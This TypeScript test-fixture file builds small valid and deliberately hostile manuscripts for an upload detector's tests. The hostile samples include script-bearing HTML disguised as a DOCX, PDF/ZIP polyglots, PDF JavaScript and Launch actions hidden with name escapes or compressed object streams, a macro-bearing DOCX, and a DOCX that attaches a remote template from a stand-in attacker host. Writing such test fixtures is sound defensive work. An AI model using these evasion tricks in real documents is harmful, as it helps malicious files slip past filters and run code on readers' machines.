/**
 * Small manuscripts built in code, valid and hostile, for the functions tests, the detector's unit tests and the
 * browser journey: a PDF, an EPUB (mimetype first and stored), a DOCX, and the files the rules refuse.
 */
import { zlibSync, zipSync, type Zippable } from 'fflate';
import { MAX_MANUSCRIPT_BYTES } from '../../contract/book-schemas.ts';

const encoder = new TextEncoder();
const ascii = (text: string) => encoder.encode(text);

function concat(...parts: Uint8Array[]): Uint8Array {
  const result = new Uint8Array(parts.reduce((total, part) => total + part.byteLength, 0));
  let offset = 0;
  for (const part of parts) {
    result.set(part, offset);
    offset += part.byteLength;
  }
  return result;
}

const PDF_BODY = `%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
trailer << /Root 1 0 R >>
`;

/** A one-page PDF; `padTo` pads it with a comment to exactly that many bytes. */
export function pdfBytes(options: { padTo?: number; extra?: string } = {}): Uint8Array {
  // One byte per character: `extra` may carry binary (a compressed stream) as Latin-1 text.
  const head = Uint8Array.from(PDF_BODY + (options.extra ?? ''), (character) => character.charCodeAt(0));
  const end = ascii('%%EOF\n');
  if (options.padTo === undefined) return concat(head, end);
  const padding = new Uint8Array(options.padTo - head.byteLength - end.byteLength).fill(0x20);
  padding[0] = 0x25; // '%': the padding is one long comment
  padding[padding.length - 1] = 0x0a;
  return concat(head, padding, end);
}

export function epubBytes(): Uint8Array {
  return zipSync({
    mimetype: [ascii('application/epub+zip'), { level: 0 }],
    'META-INF/container.xml': ascii(
      '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    ),
    'book.opf': ascii('<?xml version="1.0"?><package version="3.0"/>'),
  });
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

export function docxBytes(extra: Zippable = {}): Uint8Array {
  return zipSync({
    '[Content_Types].xml': ascii(CONTENT_TYPES),
    'word/document.xml': ascii('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Chapter one</w:t></w:r></w:p></w:body></w:document>'),
    ...extra,
  });
}

/** The refused ones. */
export const hostileManuscripts = {
  htmlNamedDocx: () => ascii('<!doctype html><html><body><script>alert(1)</script>Chapter one</body></html>'),
  /** A PDF with a ZIP inside it and the PDF's end marker after: readers of both formats open it. */
  pdfZipPolyglot: () => concat(ascii(PDF_BODY), docxBytes(), ascii('\n%%EOF\n')),
  pdfWithHtmlHead: () => pdfBytes({ extra: '%<html><script>alert(1)</script>\n' }),
  pdfWithJavaScript: () => pdfBytes({ extra: '4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n' }),
  pdfWithoutEnd: () => ascii(PDF_BODY),
  zipThatIsNeither: () => zipSync({ 'notes.txt': ascii('just some notes') }),
  docxWithMacros: () => docxBytes({ 'word/vbaProject.bin': new Uint8Array([1, 2, 3]) }),
  epubMimetypeCompressed: () =>
    zipSync({ mimetype: [ascii('application/epub+zip'), { level: 9 }], 'META-INF/container.xml': ascii('<container/>') }),
  zipWithPdfHead: () => zipSync({ 'a.txt': [ascii('%PDF-1.4 hello'), { level: 0 }], '[Content_Types].xml': ascii(CONTENT_TYPES), 'word/document.xml': ascii('<w:document/>') }),
  tooManyEntries: () => {
    const files: Zippable = { '[Content_Types].xml': ascii(CONTENT_TYPES), 'word/document.xml': ascii('<w:document/>') };
    for (let index = 0; index < 10_001; index++) files[`word/media/${index}.txt`] = [new Uint8Array(0), { level: 0 }];
    return zipSync(files);
  },
  oneByteTooLarge: () => pdfBytes({ padTo: MAX_MANUSCRIPT_BYTES + 1 }),
  empty: () => new Uint8Array(0),
  /** `/S /Java#53cript`: a legal name escape (#53 is 'S') that readers decode to /JavaScript. */
  pdfWithEscapedJavaScript: () => pdfBytes({ extra: '4 0 obj << /S /Java#53cript /JS (app.alert(1)) >> endobj\n' }),
  /** A Launch action spelled with escapes of every letter. */
  pdfWithEscapedLaunch: () => pdfBytes({ extra: '4 0 obj << /S /#4c#61#75#6e#63#68 /F (calc.exe) >> endobj\n' }),
  /** The JavaScript action inside a Flate-compressed object stream, where no byte of the file spells it. */
  pdfWithJavaScriptInObjectStream: () => pdfWithObjectStream('4 0 << /S /JavaScript /JS (app.alert(1)) >>'),
  /** A DOCX whose settings attach a remote template (how remote macros are fetched when Word opens it). */
  docxWithRemoteTemplate: () =>
    docxBytes({
      'word/_rels/settings.xml.rels': ascii(
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
          'Target="https://evil.example/macros.dotm" TargetMode="External"/></Relationships>',
      ),
    }),
};

/** A PDF whose only extra object lives in a Flate-compressed object stream holding `objects`. */
export function pdfWithObjectStream(objects: string): Uint8Array {
  const compressed = zlibSync(ascii(objects));
  const head = ascii(`5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${compressed.byteLength} >>\nstream\n`);
  return pdfBytes({ extra: bytesAsLatin1(concat(head, compressed, ascii('\nendstream\nendobj\n'))) });
}

/** A DOCX with an ordinary external hyperlink: a link the reader clicks loads nothing when the file opens. */
export function docxWithHyperlink(): Uint8Array {
  return docxBytes({
    'word/_rels/document.xml.rels': ascii(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" ' +
        'Target="https://example.org/" TargetMode="External"/></Relationships>',
    ),
  });
}

function bytesAsLatin1(bytes: Uint8Array): string {
  let text = '';
  for (const byte of bytes) text += String.fromCharCode(byte);
  return text;
}

export { concat as concatBytes };
